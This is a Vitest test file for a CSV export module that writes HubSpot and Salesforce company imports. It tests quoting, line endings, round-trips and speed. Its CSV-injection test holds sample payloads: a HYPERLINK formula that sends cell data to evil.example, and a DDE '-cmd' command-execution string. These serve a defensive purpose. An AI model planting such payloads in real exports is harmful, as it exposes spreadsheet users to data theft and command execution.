import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutralizeFormula, numberCell, quoteField, textCell, toCsv, unneutralize } from '@/lib/csv/cells';
import { bucketNumber, exportHeaders, exportLeadsCsv } from '@/lib/csv/export';
import { makeLead } from './make-lead';

const NOW = '2026-11-24T09:00:00.000Z';

/** Parses CSV text the way a spreadsheet import would (papaparse, RFC 4180). */
function cellsOf(csv: string): string[][] {
  const text = csv.startsWith('\uFEFF') ? csv.slice(1) : csv;
  const result = Papa.parse<string[]>(text, { header: false, skipEmptyLines: true, newline: '\r\n', delimiter: ',' });
  expect(result.errors).toEqual([]);
  return result.data;
}

function column(csv: string, header: string): string[] {
  const [head, ...rows] = cellsOf(csv);
  const at = head.indexOf(header);
  expect(at, `column ${header}`).toBeGreaterThanOrEqual(0);
  return rows.map((r) => r[at]);
}

describe('cells', () => {
  it('quotes only fields with a comma, quote, CR or LF, doubling quotes', () => {
    expect(quoteField('plain')).toBe('plain');
    expect(quoteField('a,b')).toBe('"a,b"');
    expect(quoteField('say "hi"')).toBe('"say ""hi"""');
    expect(quoteField('two\nlines')).toBe('"two\nlines"');
    expect(quoteField('cr\ronly')).toBe('"cr\ronly"');
    expect(quoteField(' spaced ')).toBe(' spaced ');
  });

  it('neutralizes cells a spreadsheet would run, and reads them back', () => {
    for (const t of ['=1+1', '+SUM(A1)', '-2+3', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://e.example","x")']) {
      expect(neutralizeFormula(t)).toBe(`'${t}`);
      expect(unneutralize(neutralizeFormula(t))).toBe(t);
    }
    for (const t of ['Acme', "'quoted'", ' =not first', '', "'"]) {
      expect(neutralizeFormula(t)).toBe(t);
      expect(unneutralize(t)).toBe(t);
    }
    expect(textCell('=A1,B1')).toBe(`"'=A1,B1"`);
  });

  it('writes our numbers as numbers, negative ones included', () => {
    expect(numberCell(-3)).toBe('-3');
    expect(numberCell(1_000_000_000)).toBe('1000000000');
    expect(numberCell(Number.NaN)).toBe('');
    expect(numberCell(undefined)).toBe('');
    expect(toCsv([['-3', -3]])).toBe(`'-3,-3\r\n`);
  });

  it('one number per bucket: the max when bounded, else the min', () => {
    expect(bucketNumber({ min: 51, max: 200 })).toBe(200);
    expect(bucketNumber({ min: 10_001 })).toBe(10_001);
    expect(bucketNumber({ min: 1234, max: 1234 })).toBe(1234);
    expect(bucketNumber(undefined)).toBeUndefined();
  });
});

describe('exportLeadsCsv', () => {
  it('writes the HubSpot company import columns', () => {
    const csv = exportLeadsCsv([makeLead()], { preset: 'hubspot', now: NOW });
    const [head, row] = cellsOf(csv);
    expect(head).toEqual([
      'Company name',
      'Company Domain Name',
      'Industry',
      'Number of Employees',
      'Annual Revenue',
      'Country/Region',
      'State/Region',
      'City',
      'LinkedIn Company Page',
      'Description',
      'ICP Score',
      'ICP Tier',
      'ICP Status',
      'ICP Tags',
      'ICP Notes',
    ]);
    expect(row).toEqual([
      'Northwind Analytics',
      'northwind-analytics.com',
      'Software Development',
      '200',
      '50000000',
      'United States',
      'California',
      'San Francisco',
      'https://www.linkedin.com/company/northwind-analytics/',
      'Product analytics for mid-market teams.',
      '82',
      'A',
      'working',
      'conference; warm',
      'Met at SaaStr, follow up in Q1',
    ]);
  });

  it('writes the Salesforce account import columns', () => {
    const csv = exportLeadsCsv([makeLead()], { preset: 'salesforce', now: NOW });
    const [head, row] = cellsOf(csv);
    expect(head.slice(0, 9)).toEqual([
      'Account Name',
      'Website',
      'Industry',
      'Employees',
      'Annual Revenue',
      'Billing Country',
      'Billing State/Province',
      'Billing City',
      'Description',
    ]);
    expect(head.slice(9)).toEqual(['ICP Score', 'ICP Tier', 'ICP Status', 'ICP Tags', 'ICP Notes']);
    expect(row.slice(0, 8)).toEqual([
      'Northwind Analytics',
      'https://northwind-analytics.com',
      'Software Development',
      '200',
      '50000000',
      'United States',
      'California',
      'San Francisco',
    ]);
  });

  it("flattens every field in 'all'", () => {
    const csv = exportLeadsCsv([makeLead()], { preset: 'all', now: NOW });
    const [head, row] = cellsOf(csv);
    const get = (h: string) => row[head.indexOf(h)];
    expect(head).toEqual(exportHeaders('all'));
    expect(get('key')).toBe('domain:northwind-analytics.com');
    expect(get('country')).toBe('US');
    expect(get('region')).toBe('US-CA');
    expect(get('employeesMin')).toBe('51');
    expect(get('employeesMax')).toBe('200');
    expect(get('revenueMinUsd')).toBe('10000000');
    expect(get('foundedYear')).toBe('2012');
    expect(get('technologies')).toBe('React; Segment');
    expect(get('signals')).toBe('2');
    expect(get('score')).toBe('82');
    expect(get('tier')).toBe('A');
    expect(get('icp')).toBe('Mid-market SaaS');
    expect(get('bundleVersion')).toBe('7');
    expect(get('people')).toBe('Robin Example; Kim Sample');
    expect(get('status')).toBe('working');
    expect(get('sourceUrl')).toBe('https://www.linkedin.com/company/northwind-analytics/');
    expect(get('lastSeen')).toBe('2026-11-20T10:00:00.000Z');
    expect(get('exportedAt')).toBe(NOW);
  });

  it('leaves unknown values empty and open buckets without a max', () => {
    const lead = makeLead({ company: { name: 'Bare', employees: { min: 10_001 } }, tags: [], notes: '' });
    const csv = exportLeadsCsv([lead], { preset: 'all', now: NOW });
    expect(column(csv, 'employeesMin')).toEqual(['10001']);
    expect(column(csv, 'employeesMax')).toEqual(['']);
    expect(column(csv, 'domain')).toEqual(['']);
    expect(column(csv, 'tags')).toEqual(['']);
    expect(column(exportLeadsCsv([lead], { preset: 'hubspot' }), 'Number of Employees')).toEqual(['10001']);
  });

  it('is RFC 4180: CRLF line ends, a header row, quoted fields that need it', () => {
    const csv = exportLeadsCsv([makeLead(), makeLead()], { preset: 'hubspot', now: NOW });
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(4);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(csv).toContain('"Met at SaaStr, follow up in Q1"');
  });

  it('round-trips awkward text: papaparse reads back the very same cells', () => {
    const awkward = [
      'comma, inside',
      'quote " inside',
      '"fully quoted"',
      'line\r\nbreak',
      'lf\nonly',
      'cr\ronly',
      '  leading and trailing  ',
      'emoji 🚀 and ünïcödé, 中文',
      '',
      ';semicolon;',
      "it's",
    ];
    const leads = awkward.map((text, i) =>
      makeLead({ notes: text, company: { name: `${text || 'empty'} ${i}`, description: text } }),
    );
    for (const preset of ['hubspot', 'salesforce', 'all'] as const) {
      const csv = exportLeadsCsv(leads, { preset, now: NOW });
      const notes = column(csv, preset === 'all' ? 'notes' : 'ICP Notes');
      expect(notes).toEqual(awkward);
      const names = column(csv, preset === 'salesforce' ? 'Account Name' : preset === 'all' ? 'name' : 'Company name');
      expect(names).toEqual(leads.map((l) => l.name));
    }
  });

  it('neutralizes formulas in every text cell (CSV injection)', () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const lead = makeLead({
      name: evil,
      notes: '+SUM(1,2)',
      tags: ['@SUM(A1)', 'ok'],
      company: { name: evil, industry: "-cmd|' /C calc'!A0", description: '\t=1+1', hq: { city: '\r=1' } },
    });
    const csv = exportLeadsCsv([lead], { preset: 'hubspot', now: NOW });
    const [head, row] = cellsOf(csv);
    const get = (h: string) => row[head.indexOf(h)];
    expect(get('Company name')).toBe(`'${evil}`);
    expect(get('ICP Notes')).toBe(`'+SUM(1,2)`);
    expect(get('ICP Tags')).toBe(`'@SUM(A1); ok`);
    expect(get('Industry')).toBe(`'-cmd|' /C calc'!A0`);
    expect(get('Description')).toBe(`'\t=1+1`);
    expect(get('City')).toBe(`'\r=1`);
    // No cell of the file starts with a formula character.
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps our own negative numbers as numbers', () => {
    const lead = makeLead({ score: { ...makeLead().score, score: -12 } });
    expect(column(exportLeadsCsv([lead], { preset: 'all', now: NOW }), 'score')).toEqual(['-12']);
  });

  it('adds a UTF-8 byte order mark only when asked', () => {
    const withBom = exportLeadsCsv([makeLead()], { preset: 'hubspot', bom: true, now: NOW });
    const without = exportLeadsCsv([makeLead()], { preset: 'hubspot', now: NOW });
    expect(withBom.charCodeAt(0)).toBe(0xfeff);
    expect(without.charCodeAt(0)).not.toBe(0xfeff);
    expect([...new TextEncoder().encode(withBom).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withBom.slice(1)).toBe(without);
  });

  it('writes just the header row for no leads', () => {
    expect(exportLeadsCsv([], { preset: 'salesforce' })).toBe(`${exportHeaders('salesforce').join(',')}\r\n`);
  });

  it('exports 50,000 leads fast (speed smoke, logged)', () => {
    const base = makeLead();
    const leads = Array.from({ length: 50_000 }, (_, i) =>
      makeLead({
        key: `domain:company-${i}.com`,
        name: `Company ${i}, Inc.`,
        notes: i % 10 === 0 ? 'has "quotes", commas\nand lines' : 'short note',
        company: { ...base.company, name: `Company ${i}, Inc.`, domain: `company-${i}.com` },
      }),
    );
    for (const preset of ['hubspot', 'salesforce', 'all'] as const) {
      const t0 = performance.now();
      const csv = exportLeadsCsv(leads, { preset, bom: true, now: NOW });
      const ms = performance.now() - t0;
      console.log(`export 50,000 leads (${preset}): ${ms.toFixed(0)} ms, ${(csv.length / 1e6).toFixed(1)} M chars`);
      expect(csv.length).toBeGreaterThan(50_000 * 50);
    }
  });
});
